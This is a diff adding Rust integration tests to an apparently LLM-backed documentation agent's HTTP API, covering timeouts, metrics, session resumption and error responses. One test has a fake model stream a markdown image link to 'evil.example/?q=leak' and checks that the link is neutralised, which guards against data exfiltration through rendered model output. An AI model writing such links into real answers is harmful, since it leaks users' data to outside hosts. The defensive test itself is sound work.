@@ -637,4 +637,80 @@ async fn a_request_over_its_time_is_504_in_the_error_shape() {
     ]);
     let (status, body) = call(&s, "POST", "/v1/ask", Some(ASKER), Some(json!({"question": "refunds"}))).await;
     assert_eq!((status, body["error"]["code"].as_str()), (StatusCode::GATEWAY_TIMEOUT, Some("timeout")), "{body}");
+    let (_, _, metrics) = call_raw(&s, "GET", "/metrics", Some(ADMIN), None).await;
+    let metrics = String::from_utf8_lossy(&metrics);
+    assert!(metrics.contains("docs_agent_requests_total{route=\"/v1/ask\",status=\"504\"} 1"), "{metrics}");
+    assert!(metrics.contains("docs_agent_model_errors_total 1"), "a timed-out call counts for the breaker: {metrics}");
+}
+
+#[tokio::test]
+async fn links_the_model_wrote_leave_neutralised_in_events_and_streams() {
+    let fake = fake::FakeServer::start(vec![
+        fake::Canned::streamed(&["Look: ```\n\n"], false),
+        fake::Canned::streamed(&["![x](https://evil.example/?q=leak)\n\ndone"], false),
+    ]);
+    let s = server_with(&[("llm.model", "test-model".into()), ("llm.base_url", fake.base_url())]);
+    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
+    let id = created["id"].as_str().expect("id").to_string();
+    // Two turns: the first leaves an unclosed fence in its text, the second writes an image.
+    for text in ["first", "second"] {
+        let request =
+            streamed("POST", &format!("/v1/sessions/{id}/messages"), ASKER, Some(json!({"text": text})), None);
+        let events =
+            read_sse(app(s.state.clone()).oneshot(request).await.expect("response").into_body(), |_| false).await;
+        let streamed_text: String =
+            events.iter().filter(|(k, _, _)| k == "text").filter_map(|(_, _, d)| d["delta"].as_str()).collect();
+        assert!(!streamed_text.contains("evil.example"), "{text}: streamed {streamed_text:?}");
+    }
+    let (_, events) = call(&s, "GET", &format!("/v1/sessions/{id}/events"), Some(ASKER), None).await;
+    assert!(!events.to_string().contains("evil.example"), "{events}");
+    let request = streamed("GET", &format!("/v1/sessions/{id}/events"), ASKER, None, Some("0"));
+    let followed = read_sse(app(s.state.clone()).oneshot(request).await.expect("response").into_body(), |e| {
+        e.iter().filter(|(k, _, _)| k == "stopped").count() == 2
+    })
+    .await;
+    assert!(!format!("{followed:?}").contains("evil.example"));
+}
+
+#[tokio::test]
+async fn an_unfinished_turn_is_resumed_over_http() {
+    let s = server();
+    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
+    let id = created["id"].as_str().expect("id").to_string();
+    // A crash right after the question was logged: the turn is unfinished.
+    let mut log = docs_agent::session::store::Log::open(&s.state.harness.config.session.log_path).expect("log");
+    log.append(&id, docs_agent::session::event::Event::UserMessage { text: "how long is the refund window".into() })
+        .expect("append");
+    let (status, body) =
+        call(&s, "POST", &format!("/v1/sessions/{id}/messages"), Some(ASKER), Some(json!({"text": "x"}))).await;
+    assert_eq!((status, body["error"]["code"].as_str()), (StatusCode::CONFLICT, Some("turn_in_progress")));
+    assert!(body["error"]["message"].as_str().unwrap_or("").contains("/resume"), "{body}");
+    let (status, outcome) = call(&s, "POST", &format!("/v1/sessions/{id}/resume"), Some(ASKER), None).await;
+    assert_eq!(status, StatusCode::OK, "{outcome}");
+    assert_eq!(outcome["stop"], "answered");
+    let (status, body) = call(&s, "POST", &format!("/v1/sessions/{id}/resume"), Some(ASKER), None).await;
+    assert_eq!((status, body["error"]["code"].as_str()), (StatusCode::CONFLICT, Some("nothing_to_resume")));
+    let (status, _) = call(&s, "POST", &format!("/v1/sessions/{id}/resume"), Some(OTHER), None).await;
+    assert_eq!(status, StatusCode::NOT_FOUND);
+}
+
+#[tokio::test]
+async fn odd_requests_get_the_error_shape_too() {
+    let s = server();
+    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
+    let id = created["id"].as_str().expect("id");
+    let (status, body) = call(&s, "GET", &format!("/v1/sessions/{id}/events?after=abc"), Some(ASKER), None).await;
+    assert_eq!((status, body["error"]["code"].as_str()), (StatusCode::BAD_REQUEST, Some("bad_request")), "{body}");
+    let (status, body) = call(&s, "DELETE", "/v1/ask", Some(ASKER), None).await;
+    assert_eq!((status, body["error"]["code"].as_str()), (StatusCode::METHOD_NOT_ALLOWED, Some("method_not_allowed")));
+    let long = "x".repeat(9_000);
+    let (status, _) = call(
+        &s,
+        "POST",
+        "/v1/chat/completions",
+        Some(ASKER),
+        Some(json!({"messages": [{"role": "user", "content": long}]})),
+    )
+    .await;
+    assert_eq!(status, StatusCode::BAD_REQUEST);
 }
